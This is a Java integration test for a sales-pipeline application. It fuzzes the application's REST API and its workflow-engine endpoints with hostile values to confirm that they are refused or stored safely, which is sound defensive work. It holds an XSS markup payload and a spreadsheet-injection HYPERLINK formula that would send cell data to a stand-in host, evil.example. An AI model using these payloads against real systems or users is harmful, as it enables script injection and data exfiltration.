package com.salescadence.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.math.BigDecimal;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import org.camunda.bpm.engine.ProcessEngine;
import org.camunda.bpm.engine.impl.util.ClockUtil;
import org.camunda.bpm.engine.task.Task;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.salescadence.organization.OrganizationAdministration;
import com.salescadence.organization.OrganizationService;
import com.salescadence.pipeline.AccountService;
import com.salescadence.pipeline.process.LeadIntake;
import com.salescadence.support.CadenceIntegrationTest;
import com.salescadence.support.StoredRows;
import com.salescadence.support.QualifiedDeals;
import com.salescadence.support.TestDatabase;
import com.salescadence.support.TestOrganization;
import com.salescadence.support.WeeklyCycles;
import com.salescadence.workflow.LeadToCashProcess;
import com.salescadence.workflow.TaskActions;

/**
 * Issue 18, "go beyond the list": every write of the product's API a rep, a manager, finance or an administrator can
 * reach, read from the OpenAPI document (/v3/api-docs: each POST, PUT, PATCH and DELETE of /api with a JSON body or
 * none), and the engine's REST writes people reach (task variables, process-instance variables, deployments), sent
 * with hostile values: no body, a body that is no JSON or of the wrong shape, each property missing, null, of the
 * wrong type, huge, negative, NaN, a far date, markup and a spreadsheet formula, and hostile ids in the path. Each
 * answer is a 4xx with a message or a 2xx, never a 5xx; a refusal stores nothing (the product's tables unchanged).
 *
 * <p>What may be accepted (2xx): markup and formulas in free text, negative numbers (a roll-up adjustment lowers a
 * figure) and a missing or empty optional property; never NaN, Infinity, a huge number, a far date, a value of the
 * wrong type or a 100,000 character text. Markup in names is accepted and stored as the text typed, not refused:
 * {@code <img src=x onerror=alert(1)>} is a legal (if odd) company or person name, refusing it would refuse real
 * names with {@code <} or {@code &}, and the only place markup can do harm is where it is shown, which escapes it
 * (EscapingBrowserTest: the Tasklist's forms; the dashboard and deal pages set text, never HTML, under a CSP; mails
 * are text/plain). Formulas are the exception in names only: a name starting with = + - or @ is refused
 * (Checks.requiredName) because a spreadsheet opening the CSV export would run it, and the export quotes such
 * values too. {@link #markup_in_names_is_stored_as_the_text_typed_and_a_formula_refused} proves both.
 *
 * <p>The imports (multipart and CSV bodies) are walked by ImportAbuseIntegrationTest; the form fields a task
 * accepts by FormFuzzIntegrationTest.
 */
@CadenceIntegrationTest
class HostileInputIntegrationTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final String REP = TestOrganization.REP;
    private static final String MANAGER = TestOrganization.MANAGER;
    private static final String ADMIN = "t.admin";
    private static final String MARKUP = "<img src=x onerror=alert(1)>";
    private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    private static final Pattern PATH_PARAMETER = Pattern.compile("\\{(\\w+)}");
    private static final HttpClient HTTP = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();

    @LocalServerPort int port;
    @Autowired OrganizationService organization;
    @Autowired OrganizationAdministration administration;
    @Autowired AccountService accounts;
    @Autowired LeadIntake intake;
    @Autowired TaskActions tasks;
    @Autowired JdbcTemplate jdbc;
    @Autowired ProcessEngine engine;

    private final List<String> findings = new ArrayList<>();
    private StoredRows stored;

    @BeforeEach
    void setUp() {
        TestOrganization.ensure(organization, administration);
        stored = new StoredRows(jdbc);
    }

    @AfterEach
    void clock() {
        ClockUtil.reset();
    }

    @Test
    void every_api_write_refuses_hostile_values_with_a_4xx_and_a_message_and_stores_nothing() throws Exception {
        // the records the paths name: a deal of the rep in its first stage, a lead, an account, a cycle, a person
        String leadKey = QualifiedDeals.open(accounts, intake, tasks, "Hostile walk account " + System.nanoTime(), "Hostile walk deal");
        long lead = Long.parseLong(leadKey);
        long deal = jdbc.queryForObject("select id from opportunity where lead_id = ?", Long.class, lead);
        long account = jdbc.queryForObject("select account_id from opportunity where id = ?", Long.class, deal);
        String cycleKey = new WeeklyCycles(engine).open(LocalDateTime.of(2025, 6, 1, 8, 0));
        ClockUtil.reset();
        long cycle = jdbc.queryForObject("select id from cadence_cycle where cycle_key = ?", Long.class, cycleKey);
        String person = "t.hostile";
        call(ADMIN, "POST", "/api/people", "{\"login\":\"" + person + "\",\"name\":\"Ho Stile\",\"email\":\"ho@example.com\","
                + "\"role\":\"REP\",\"managerId\":\"" + MANAGER + "\",\"language\":\"en\"}");
        Map<String, String> ids = Map.of("id", String.valueOf(deal), "accountId", String.valueOf(account),
                "cycleId", String.valueOf(cycle), "login", person, "period", "2026-Q4", "year", "2026", "key", "lead-to-cash");

        JsonNode api = JSON.readTree(call(ADMIN, "GET", "/v3/api-docs", null).body());
        int operations = 0;
        int requests = 0;
        for (Iterator<Map.Entry<String, JsonNode>> paths = api.path("paths").fields(); paths.hasNext(); ) {
            Map.Entry<String, JsonNode> path = paths.next();
            for (String method : List.of("post", "put", "patch", "delete")) {
                JsonNode operation = path.getValue().path(method);
                if (operation.isMissingNode() || !acceptsJsonOrNothing(operation)) {
                    continue;
                }
                operations++;
                String template = path.getKey().startsWith("/api/leads/") ? path.getKey().replace("{id}", String.valueOf(lead))
                        : path.getKey();
                requests += walk(method.toUpperCase(), template, ids, schema(api, operation));
            }
        }
        System.out.printf("hostile walk: %d writes of /api, %d requests, %d ms reading the tables%n", operations, requests,
                storedNanos / 1_000_000);
        assertThat(operations).as("the writes of the OpenAPI document").isGreaterThanOrEqualTo(30);
        assertThat(findings).as("hostile values not refused with a 4xx and a message, or a refusal that stored something").isEmpty();
    }

    @Test
    void engine_rest_writes_people_reach_refuse_hostile_values_with_a_4xx_and_a_message() throws Exception {
        String leadKey = QualifiedDeals.open(accounts, intake, tasks, "Hostile engine account " + System.nanoTime(), "Hostile engine deal");
        Task task = tasks.openTaskFor(leadKey, LeadToCashProcess.TASK_WORK_STAGE, REP);
        String instance = task.getProcessInstanceId();
        String taskPath = "/engine-rest/task/" + task.getId();
        String huge = "\"" + "x".repeat(100_000) + "\"";
        // (a value no variable can be, or a type refused: 400 with a message)
        for (String value : List.of("{\"value\": \"<a/>\", \"type\": \"Xml\", \"valueInfo\": {}}", "[]", "not json",
                "{\"value\": \"rO0=\", \"type\": \"Object\", \"valueInfo\": {\"objectTypeName\": \"java.util.HashMap\","
                        + " \"serializationDataFormat\": \"application/x-java-serialized-object\"}}")) {
            refused(REP, "PUT", taskPath + "/variables/notes", value);
            refused(REP, "PUT", taskPath + "/localVariables/notes", value);
        }
        // the variable's value against its declared type, unknown types, a far date, broken JSON
        List<String> values = List.of("{\"value\": \"abc\", \"type\": \"Integer\"}", "{\"value\": \"NaN\", \"type\": \"Long\"}",
                "{\"value\": 1e400, \"type\": \"Double\"}", "{\"value\": \"x\", \"type\": \"NoSuchType\"}",
                "{\"value\": \"-999999999-01-01T00:00:00.000+0000\", \"type\": \"Date\"}",
                "{\"value\": \"{\", \"type\": \"Json\"}", "{\"value\": \"<a/>\", \"type\": \"Xml\", \"valueInfo\": {}}",
                "{\"value\": \"rO0=\", \"type\": \"Object\", \"valueInfo\": {\"objectTypeName\": \"java.util.HashMap\","
                        + " \"serializationDataFormat\": \"application/x-java-serialized-object\"}}",
                "{\"value\": " + huge + ", \"type\": \"Integer\"}", "[]", "not json");
        for (String value : values) {
            // (a variable of the rep's own task that the engine can store as typed, Infinity or a far date, it stores:
            // the person's own note, no product data; what it cannot store is refused with a message)
            neverServerError(REP, "PUT", taskPath + "/variables/notes", value);
            neverServerError(REP, "PUT", taskPath + "/localVariables/notes", value);
            refused(REP, "POST", taskPath + "/submit-form", "{\"variables\": {\"evidence\": " + value + "}}");
            refused(REP, "POST", taskPath + "/complete", "{\"variables\": {\"evidence\": " + value + "}}");
            neverServerError(REP, "POST", "/engine-rest/process-instance/" + instance + "/variables",
                    "{\"modifications\": {\"notes\": " + value + "}}");
        }
        // hostile ids and names in the path
        for (String id : List.of("NaN", "-1", "99999999999999999999", URLEncoder.encode(MARKUP, StandardCharsets.UTF_8))) {
            refused(REP, "POST", "/engine-rest/task/" + id + "/complete", "{}");
            refused(REP, "POST", "/engine-rest/task/" + id + "/submit-form", "{}");
            refused(REP, "PUT", "/engine-rest/task/" + id + "/variables/notes", "{\"value\": \"x\"}");
            refused(REP, "DELETE", "/engine-rest/process-instance/" + id + "/variables/notes", null);
        }
        assertThat(engine.getTaskService().createTaskQuery().taskId(task.getId()).count()).as("the task is still open").isEqualTo(1);
        assertThat(findings).as("engine-rest writes that answered no 4xx with a message").isEmpty();
    }

    /** Issue 18 item 13: a protected variable cannot be removed through /engine-rest: 4xx with a message, still there. */
    @Test
    void deleting_a_protected_variable_through_the_engine_api_is_refused_and_the_variable_stays() throws Exception {
        String leadKey = QualifiedDeals.open(accounts, intake, tasks, "Protected account " + System.nanoTime(), "Protected deal");
        Task task = tasks.openTaskFor(leadKey, LeadToCashProcess.TASK_WORK_STAGE, REP);
        String instance = task.getProcessInstanceId();
        String execution = instance;
        for (String name : List.of(LeadToCashProcess.OWNER_ID, LeadToCashProcess.OPPORTUNITY_ID)) {
            for (String user : List.of(REP, MANAGER, ADMIN)) {
                refused(user, "DELETE", "/engine-rest/task/" + task.getId() + "/variables/" + name, null);
                refused(user, "POST", "/engine-rest/task/" + task.getId() + "/variables", "{\"deletions\": [\"" + name + "\"]}");
                refused(user, "POST", "/engine-rest/task/" + task.getId() + "/complete",
                        "{\"variables\": {\"" + name + "\": {\"value\": null}}}");
                if (!user.equals(ADMIN)) { // (an administrator may change a running instance in Cockpit: that is their job)
                    refused(user, "DELETE", "/engine-rest/process-instance/" + instance + "/variables/" + name, null);
                    refused(user, "POST", "/engine-rest/process-instance/" + instance + "/variables",
                            "{\"deletions\": [\"" + name + "\"]}");
                    refused(user, "DELETE", "/engine-rest/execution/" + execution + "/localVariables/" + name, null);
                }
            }
            assertThat(engine.getRuntimeService().getVariable(instance, name)).as(name + " is still set").isNotNull();
        }
        assertThat(findings).as("removals of a protected variable not refused with a 4xx and a message").isEmpty();
    }

    /** Issue 18 item 13: a deployment without resources is refused with 400 and a message, and nothing is deployed. */
    @Test
    void an_empty_deployment_is_refused_with_400_and_a_message() throws Exception {
        long before = engine.getRepositoryService().createDeploymentQuery().count();
        for (String body : List.of("", multipart(Map.of("deployment-name", "empty")),
                multipart(Map.of("deployment-name", "empty", "enable-duplicate-filtering", "true")))) {
            HttpResponse<String> answer = HTTP.send(request(ADMIN, "/engine-rest/deployment/create")
                    .header("Content-Type", "multipart/form-data; boundary=" + BOUNDARY)
                    .POST(HttpRequest.BodyPublishers.ofString(body)).build(), HttpResponse.BodyHandlers.ofString());
            assertThat(answer.statusCode()).as(answer.body()).isEqualTo(400);
            assertThat(StoredRows.message(answer.body())).as(answer.body()).isNotBlank();
        }
        assertThat(engine.getRepositoryService().createDeploymentQuery().count()).isEqualTo(before);
    }

    @Test
    void markup_in_names_is_stored_as_the_text_typed_and_a_formula_refused() throws Exception {
        String account = MARKUP + " " + System.nanoTime();
        HttpResponse<String> created = call(REP, "POST", "/api/accounts",
                JSON.writeValueAsString(Map.of("name", account, "tier", "KEY", "industry", "Tools")));
        assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
        assertThat(JSON.readTree(created.body()).path("name").asText()).isEqualTo(account);
        assertThat(jdbc.queryForObject("select count(*) from account where name = ?", Long.class, account)).isEqualTo(1);
        long accountId = JSON.readTree(created.body()).path("id").asLong();

        HttpResponse<String> lead = call(REP, "POST", "/api/leads", JSON.writeValueAsString(Map.of("accountId", accountId,
                "title", MARKUP, "estimatedAmount", 300000)));
        assertThat(lead.statusCode()).as(lead.body()).isEqualTo(201);
        long leadId = JSON.readTree(lead.body()).path("id").asLong();
        HttpResponse<String> qualified = call(REP, "POST", "/api/leads/" + leadId + "/qualification", JSON.writeValueAsString(Map.of(
                "decision", "qualify", "budget", MARKUP, "authority", "CIO", "need", "MES", "timeline", "Q1", "opportunityName", MARKUP,
                "amount", "300000", "expectedCloseDate", LocalDate.now().plusMonths(2).toString())));
        assertThat(qualified.statusCode()).as(qualified.body()).isBetween(200, 201);
        assertThat(jdbc.queryForObject("select name from opportunity where lead_id = ?", String.class, leadId)).isEqualTo(MARKUP);

        HttpResponse<String> personAdded = call(ADMIN, "POST", "/api/people", JSON.writeValueAsString(Map.of("login", "t.markup",
                "name", MARKUP, "email", "markup@example.com", "role", "REP", "managerId", MANAGER, "language", "en")));
        assertThat(personAdded.statusCode()).as(personAdded.body()).isBetween(200, 201);
        assertThat(organization.findPerson("t.markup").orElseThrow().fullName()).isEqualTo(MARKUP);

        // a formula is refused in a name, with a message, and nothing is stored
        long accountsBefore = jdbc.queryForObject("select count(*) from account", Long.class);
        HttpResponse<String> formula = call(REP, "POST", "/api/accounts",
                JSON.writeValueAsString(Map.of("name", FORMULA, "tier", "KEY", "industry", "Tools")));
        assertThat(formula.statusCode()).isEqualTo(400);
        assertThat(StoredRows.message(formula.body())).contains("formula", "公式");
        assertThat(jdbc.queryForObject("select count(*) from account", Long.class)).isEqualTo(accountsBefore);
    }

    // ------------------------------------------------------------------ the walk of /api

    /** The operation's JSON body schema (resolved), or null when it takes none. */
    private static JsonNode schema(JsonNode api, JsonNode operation) {
        JsonNode schema = operation.path("requestBody").path("content").path("application/json").path("schema");
        return schema.isMissingNode() ? null : resolve(api, schema);
    }

    private static boolean acceptsJsonOrNothing(JsonNode operation) {
        JsonNode content = operation.path("requestBody").path("content");
        return content.isMissingNode() || content.has("application/json");
    }

    private static JsonNode resolve(JsonNode api, JsonNode schema) {
        if (schema.has("$ref")) {
            String name = schema.get("$ref").asText().substring("#/components/schemas/".length());
            return resolve(api, api.path("components").path("schemas").path(name));
        }
        return schema;
    }

    /** The requests of one write: hostile path ids, hostile bodies; answers the number sent. */
    private int walk(String method, String template, Map<String, String> ids, JsonNode schema) throws Exception {
        String path = fill(template, ids, null);
        String user = whoReaches(method, path);
        snapshot = null; // (a probe may have been accepted: a password link with no body is)
        int sent = 0;
        Matcher parameters = PATH_PARAMETER.matcher(template);
        while (parameters.find()) {
            // (a NUL in the URL the servlet container refuses before the application sees it: once is enough)
            for (String hostile : nulSent++ == 0 ? List.of("NaN", "-1", "99999999999999999999", MARKUP, "%00")
                    : List.of("NaN", "-1", "99999999999999999999", MARKUP)) {
                sent++;
                check(method + " " + template + " {" + parameters.group(1) + "}=" + hostile, user, method,
                        fill(template, ids, Map.of(parameters.group(1), hostile)), schema == null ? null : baseline(schema).toString(),
                        false);
            }
        }
        if (schema == null) {
            return sent;
        }
        for (String body : List.of("", "not json", "[]")) {
            sent++;
            check(method + " " + template + " body '" + body + "'", user, method, path, body, false);
        }
        ObjectNode baseline = baseline(schema);
        for (Iterator<Map.Entry<String, JsonNode>> properties = schema.path("properties").fields(); properties.hasNext(); ) {
            Map.Entry<String, JsonNode> property = properties.next();
            for (Map.Entry<String, Hostile> hostile : hostileValues(property.getValue()).entrySet()) {
                ObjectNode body = baseline.deepCopy();
                if (hostile.getValue().value() == null) {
                    body.remove(property.getKey());
                } else {
                    body.set(property.getKey(), hostile.getValue().value());
                }
                sent++;
                check(method + " " + template + " " + property.getKey() + " " + hostile.getKey(), user, method, path, body.toString(),
                        hostile.getValue().mayBeAccepted());
            }
        }
        return sent;
    }

    /** A hostile value (null: the property left out) and whether a 2xx is a legitimate answer to it. */
    private record Hostile(JsonNode value, boolean mayBeAccepted) {
    }

    private static Map<String, Hostile> hostileValues(JsonNode property) {
        Map<String, Hostile> values = new LinkedHashMap<>();
        values.put("missing", new Hostile(null, true));
        values.put("null", new Hostile(NODES.nullNode(), true));
        String type = property.path("type").asText(property.has("items") ? "array" : "string");
        switch (type) {
            case "integer", "number" -> {
                values.put("text", new Hostile(NODES.textNode("abc"), false));
                values.put("NaN", new Hostile(NODES.textNode("NaN"), false));
                values.put("huge", new Hostile(NODES.numberNode(new BigDecimal("1e30")), false));
                values.put("negative", new Hostile(NODES.numberNode(-1), true));
            }
            case "array" -> {
                values.put("text", new Hostile(NODES.textNode(MARKUP), false));
                values.put("a null item", new Hostile(NODES.arrayNode().addNull(), false));
                values.put("a nested item", new Hostile(NODES.arrayNode().add(NODES.arrayNode().add(1)), false));
                values.put("an item of hostile values", new Hostile(NODES.arrayNode().add(hostileRow()), false));
                values.put("an object", new Hostile(NODES.objectNode().put("a", 1), false));
            }
            case "boolean" -> {
                values.put("text", new Hostile(NODES.textNode("maybe"), false));
                values.put("an object", new Hostile(NODES.objectNode().put("a", 1), false));
            }
            case "object" -> values.put("text", new Hostile(NODES.textNode(MARKUP), false));
            default -> {
                values.put("empty", new Hostile(NODES.textNode(""), true));
                values.put("huge", new Hostile(NODES.textNode("x".repeat(100_000)), false));
                values.put("an object", new Hostile(NODES.objectNode().put("a", 1), false));
                values.put("NUL", new Hostile(NODES.textNode("a\u0000b"), false));
                values.put("NaN", new Hostile(NODES.textNode("NaN"), true));
                values.put("far date", new Hostile(NODES.textNode("-999999999-01-01"), true));
                values.put("far future date", new Hostile(NODES.textNode("9999-12-31"), true));
                values.put("markup", new Hostile(NODES.textNode(MARKUP), true));
                values.put("formula", new Hostile(NODES.textNode(FORMULA), true));
            }
        }
        return values;
    }

    /** A row of a list property with every usual key hostile. */
    private static ObjectNode hostileRow() {
        ObjectNode row = NODES.objectNode();
        for (String key : List.of("opportunityId", "personId", "accountId", "id", "dealId")) {
            row.put(key, MARKUP);
        }
        for (String key : List.of("amount", "commit", "upside", "target", "quota", "stretch", "month")) {
            row.put(key, "NaN");
        }
        row.put("category", FORMULA);
        row.put("closeDate", "-999999999-01-01");
        row.put("reason", "x".repeat(100_000));
        return row;
    }

    /** A body valid in shape: the schema's examples, its first allowed value, or a plain value of the type. */
    private static ObjectNode baseline(JsonNode schema) {
        ObjectNode body = NODES.objectNode();
        for (Iterator<Map.Entry<String, JsonNode>> properties = schema.path("properties").fields(); properties.hasNext(); ) {
            Map.Entry<String, JsonNode> property = properties.next();
            JsonNode p = property.getValue();
            JsonNode value;
            if (p.has("example")) {
                value = p.get("example");
            } else if (p.has("enum")) {
                value = p.get("enum").get(0);
            } else {
                value = switch (p.path("type").asText("string")) {
                    case "integer", "number" -> NODES.numberNode(1);
                    case "boolean" -> NODES.booleanNode(true);
                    case "array" -> NODES.arrayNode();
                    case "object" -> NODES.objectNode();
                    default -> "date".equals(p.path("format").asText()) ? NODES.textNode(LocalDate.now().plusMonths(1).toString())
                            : NODES.textNode("Walk");
                };
            }
            body.set(property.getKey(), value);
        }
        return body;
    }

    /** The first of rep, manager, finance and administrator who is not refused 401/403 outright (no body sent). */
    private String whoReaches(String method, String path) throws Exception {
        for (String user : List.of(REP, MANAGER, TestOrganization.FINANCE, ADMIN)) {
            int status = call(user, method, path, "not json").statusCode();
            if (status != 401 && status != 403) {
                return user;
            }
        }
        return ADMIN;
    }

    private static String fill(String template, Map<String, String> ids, Map<String, String> hostile) {
        Matcher parameter = PATH_PARAMETER.matcher(template);
        StringBuilder path = new StringBuilder();
        while (parameter.find()) {
            String name = parameter.group(1);
            String value = hostile != null && hostile.containsKey(name) ? hostile.get(name) : ids.getOrDefault(name, "1");
            parameter.appendReplacement(path, Matcher.quoteReplacement(
                    value.startsWith("%") ? value : URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20")));
        }
        parameter.appendTail(path);
        return path.toString();
    }

    private int nulSent;

    /** What the product's tables held after the last request of the walk (null: not read yet). */
    private String snapshot;

    /** Sends one hostile request; records a 5xx, a 4xx without a message, a refusal that stored, a 2xx not allowed. */
    private void check(String what, String user, String method, String path, String body, boolean mayBeAccepted) throws Exception {
        String before = snapshot == null ? storedNow() : snapshot;
        HttpResponse<String> answer = call(user, method, path, body);
        int status = answer.statusCode();
        snapshot = storedNow();
        boolean changed = !snapshot.equals(before);
        if (status >= 500) {
            findings.add(what + " as " + user + " -> " + status + " " + StoredRows.abbreviated(answer.body()));
        } else if (status >= 400) {
            if (status != 404 && status != 405 && StoredRows.message(answer.body()).isBlank()) {
                findings.add(what + " as " + user + " -> " + status + " without a message: " + StoredRows.abbreviated(answer.body()));
            }
            if (changed) {
                findings.add(what + " as " + user + " -> " + status + " but the product's tables changed");
            }
        } else if (!mayBeAccepted && changed) {
            findings.add(what + " as " + user + " -> " + status + ": accepted and stored " + StoredRows.abbreviated(answer.body()));
        }
    }

    /** A write the engine may take (a variable of the person's own task): never a 5xx, a refusal with a message. */
    private void neverServerError(String user, String method, String path, String body) throws Exception {
        HttpResponse<String> answer = call(user, method, path, body);
        if (answer.statusCode() >= 500 || (answer.statusCode() >= 400 && StoredRows.message(answer.body()).isBlank())) {
            findings.add(method + " " + path + " as " + user + " " + StoredRows.abbreviated(String.valueOf(body)) + " -> " + answer.statusCode()
                    + " " + StoredRows.abbreviated(answer.body()));
        }
    }

    private void refused(String user, String method, String path, String body) throws Exception {
        HttpResponse<String> answer = call(user, method, path, body);
        if (answer.statusCode() < 400 || answer.statusCode() >= 500 || StoredRows.message(answer.body()).isBlank()) {
            findings.add(method + " " + path + " as " + user + " " + StoredRows.abbreviated(String.valueOf(body)) + " -> " + answer.statusCode()
                    + " " + StoredRows.abbreviated(answer.body()));
        }
    }

    private HttpResponse<String> call(String user, String method, String path, String body) throws Exception {
        HttpRequest.Builder request = request(user, path).header("Content-Type", "application/json")
                .method(method, body == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofString(body));
        return HTTP.send(request.build(), HttpResponse.BodyHandlers.ofString());
    }

    private HttpRequest.Builder request(String user, String path) {
        return HttpRequest.newBuilder(URI.create("http://localhost:" + port + path)).header("Accept", "application/json")
                .header("Authorization", "Basic " + Base64.getEncoder().encodeToString(
                        (user + ":" + TestOrganization.PASSWORD).getBytes(StandardCharsets.UTF_8)));
    }

    private static final String BOUNDARY = "hostileBoundary";

    private static String multipart(Map<String, String> fields) {
        StringBuilder body = new StringBuilder();
        fields.forEach((name, value) -> body.append("--").append(BOUNDARY).append("\r\n")
                .append("Content-Disposition: form-data; name=\"").append(name).append("\"\r\n\r\n").append(value).append("\r\n"));
        return body.append("--").append(BOUNDARY).append("--\r\n").toString();
    }

    private long storedNanos;

    private String storedNow() {
        long started = System.nanoTime();
        try {
            return stored.now();
        } finally {
            storedNanos += System.nanoTime() - started;
        }
    }



}
